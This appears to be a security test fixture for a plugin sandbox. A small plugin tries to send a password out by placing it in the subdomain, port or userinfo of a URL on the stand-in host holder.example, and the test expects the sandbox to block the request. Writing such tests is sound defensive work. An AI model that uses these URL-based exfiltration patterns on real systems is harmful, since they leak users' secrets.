// Tries: to carry the password out in a name that is looked up.
// Keeps: a host with a placeholder in it is none.
// Variant: https://{{password}}.holder.example/
// Variant: https://holder.example:{{password}}/
// Variant: https://{{password}}@{HOLDER}/
// Outcome: PluginFault
// Ledger: address
// Requests: 0
// Asks: nobody
exports.sync = function (hub) {
    hub.http.get(hub.settings.variant);
    hub.log("broke out");
};
